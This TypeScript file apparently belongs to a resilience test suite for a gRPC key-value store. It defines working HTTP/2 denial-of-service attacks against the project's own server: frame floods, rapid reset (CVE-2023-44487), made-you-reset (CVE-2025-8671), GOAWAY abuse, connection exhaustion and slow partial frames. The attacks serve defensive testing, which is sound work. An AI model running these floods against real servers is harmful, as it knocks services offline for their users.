import {
  clientPreface,
  END_HEADERS,
  END_STREAM,
  errorCodes,
  frame,
  grpcMessage,
  settingsPayload,
  uint32,
  type FrameType,
} from '../../../src/grpc/testing/frames.js';
import { GetRequest } from '../../../src/generated/kvstore.js';
import type { Attack } from './attack.js';
import type { Attacker } from './attacker.js';
import { callFields, lastMessage, type HostileConnection } from './hostile-connection.js';

const getPath = '/proto.KeyValueStore/Get';
const watchPath = '/grpc.health.v1.Health/Watch';
const checkPath = '/grpc.health.v1.Health/Check';
const watching = { reading: 'frames' } as const;
const discarded = { reading: 'thrown-away' } as const;
const cancel = uint32(errorCodes.CANCEL);
const get = GetRequest.encode({ key: 'nothing' }).finish();

/** Those that one connection may have. */
const streamsMax = 4096;

/** Sends `flood` until the member has enough of it. */
async function pour(attacker: Attacker, connection: HostileConnection, flood: Uint8Array): Promise<void> {
  while (!attacker.isOver && (await connection.send(flood)));
}

function repeated(count: number, part: Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => part));
}

async function settingsWalk(attacker: Attacker): Promise<void> {
  // As many as a frame of 16 KiB holds; each differs from the one before.
  const entries = Array.from(
    { length: 2730 },
    (_, at) => ['INITIAL_WINDOW_SIZE', 65_535 + (at % 2)] as const,
  );
  const walk = frame('SETTINGS', 0, 0, settingsPayload(entries));
  await attacker.http2Again(2, watching, async (connection) => {
    await connection.open(streamsMax, connection.block(callFields(watchPath)), 0, lastMessage(Buffer.of()));
    await pour(attacker, connection, walk);
  });
}

/** Frames of one kind, as fast as they are taken, from four connections with one open stream each. */
function frameFlood(
  type: FrameType | number,
  flags: number,
  streamId: number,
  payload: Uint8Array,
): Attack['run'] {
  const flood = repeated(1000, frame(type, flags, streamId, payload));
  return (attacker) =>
    attacker.http2Again(4, watching, async (connection) => {
      await connection.open(1, connection.block(callFields(getPath)), 0);
      await pour(attacker, connection, flood);
    });
}

async function rapidReset(attacker: Attacker): Promise<void> {
  await attacker.http2Again(4, watching, async (connection) => {
    const block = connection.block(callFields(getPath));
    const more = (id: number): Uint8Array =>
      Buffer.concat([lastMessage(get)(id), frame('RST_STREAM', 0, id, cancel)]);
    while (!attacker.isOver && (await connection.open(256, block, 0, more)));
  });
}

async function madeYouReset(attacker: Attacker): Promise<void> {
  await attacker.http2Again(4, watching, async (connection) => {
    const block = connection.block(callFields(getPath));
    // An increment of nothing is a mistake on the stream (RFC 9113, section 6.9).
    const more = (id: number): Uint8Array =>
      Buffer.concat([lastMessage(get)(id), frame('WINDOW_UPDATE', 0, id, uint32(0))]);
    while (!attacker.isOver && (await connection.open(256, block, 0, more)));
  });
}

/** For streams that have ended lately, as honest clients send a few. */
async function lateFrames(attacker: Attacker): Promise<void> {
  await attacker.http2Again(4, watching, async (connection) => {
    await connection.open(64, connection.block(callFields(getPath)), 0, lastMessage(get));
    const late = Array.from({ length: 64 }, (_, at) => [
      frame('WINDOW_UPDATE', 0, 1 + 2 * at, uint32(1000)),
      frame('RST_STREAM', 0, 1 + 2 * at, cancel),
    ]);
    await pour(attacker, connection, repeated(16, Buffer.concat(late.flat())));
  });
}

/** An honest stream of calls whose connection was told to end, and that goes on behind the GOAWAY. */
async function behindGoaway(attacker: Attacker): Promise<void> {
  await attacker.http2Again(8, discarded, async (connection) => {
    const block = connection.block(callFields(getPath));
    // A frame on a stream that was never opened ends the connection (section 5.1).
    await connection.send(frame('RST_STREAM', 0, 1001, cancel));
    while (!attacker.isOver && (await connection.open(256, block, 0, lastMessage(get))));
  });
}

/** Each connection may do its work of a turn; all of them together may not make it long. */
async function busyConnections(attacker: Attacker): Promise<void> {
  await attacker.http2Again(500, discarded, async (connection) => {
    connection.openWindow();
    const block = connection.block(callFields(checkPath));
    while (!attacker.isOver && (await connection.open(256, block, 0, lastMessage(Buffer.of()))));
  });
}

async function getsByHttp2(attacker: Attacker): Promise<void> {
  const fields = [':method', 'GET', ':scheme', 'http', ':path', '/metrics', ':authority', 'kvorum'];
  await attacker.http2Again(4, discarded, async (connection) => {
    connection.openWindow();
    while (!attacker.isOver && (await connection.open(256, connection.block(fields), END_STREAM)));
  });
}

/** Bytes come one by one, and nothing ever becomes whole: prefaces, header blocks, messages. */
async function slowFrames(attacker: Attacker): Promise<void> {
  const beginnings = [
    clientPreface.subarray(0, 10),
    Buffer.concat([clientPreface, frame('SETTINGS', 0, 0), frame('HEADERS', 0, 1, Buffer.alloc(0), 4000)]),
    Buffer.concat([
      ...[clientPreface, frame('SETTINGS', 0, 0), frame('HEADERS', END_HEADERS, 1, Buffer.of())],
      frame('DATA', 0, 1, grpcMessage(Buffer.alloc(0)), 16_000),
    ]),
  ];
  await attacker.repeat(100, async (at) => {
    const socket = await attacker.dial('grpc');
    socket?.resume().write(beginnings[at % beginnings.length]!);
    while (!attacker.isOver && socket?.writable === true) {
      socket.write(Buffer.of(0));
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  });
}

const eightBytes = Buffer.alloc(8);

export const floodAttacks: readonly Attack[] = [
  {
    name: 'settings-walk',
    does: 'changes the windows of 4096 streams 2,730 times a frame',
    seconds: 4,
    run: settingsWalk,
  },
  { name: 'settings-flood', does: 'floods with SETTINGS', run: frameFlood('SETTINGS', 0, 0, Buffer.of()) },
  { name: 'ping-flood', does: 'floods with PING', run: frameFlood('PING', 0, 0, eightBytes) },
  { name: 'empty-data-flood', does: 'floods with empty DATA', run: frameFlood('DATA', 0, 1, Buffer.of()) },
  {
    name: 'unknown-frame-flood',
    does: 'floods with frames of no known type',
    run: frameFlood(0xfe, 0, 0, eightBytes),
  },
  {
    name: 'window-update-flood',
    does: 'floods with WINDOW_UPDATE',
    run: frameFlood('WINDOW_UPDATE', 0, 1, uint32(1)),
  },
  { name: 'rapid-reset', does: 'opens streams and resets them at once (CVE-2023-44487)', run: rapidReset },
  { name: 'made-you-reset', does: 'makes the member reset streams (CVE-2025-8671)', run: madeYouReset },
  { name: 'late-frames', does: 'floods with frames for streams that have ended', run: lateFrames },
  { name: 'behind-goaway', does: 'goes on with calls behind GOAWAY', run: behindGoaway },
  {
    name: 'busy-connections',
    does: 'asks for the health on 500 connections, as often as it may',
    seconds: 4,
    run: busyConnections,
  },
  { name: 'gets-by-http2', does: 'floods with GET /metrics over HTTP/2', run: getsByHttp2 },
  { name: 'slow-frames', does: 'sends a byte now and then on a hundred connections', run: slowFrames },
];
